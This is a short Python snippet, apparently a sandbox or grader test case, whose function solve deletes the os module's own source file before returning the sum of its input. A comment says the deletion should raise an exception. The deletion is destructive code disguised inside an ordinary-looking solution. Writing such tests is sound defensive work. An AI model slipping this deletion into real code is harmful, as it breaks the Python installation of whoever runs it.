# tries: removes the interpreter's files -> exception
def solve(numbers):
    import os
    os.remove(os.__file__)
    return sum(numbers)
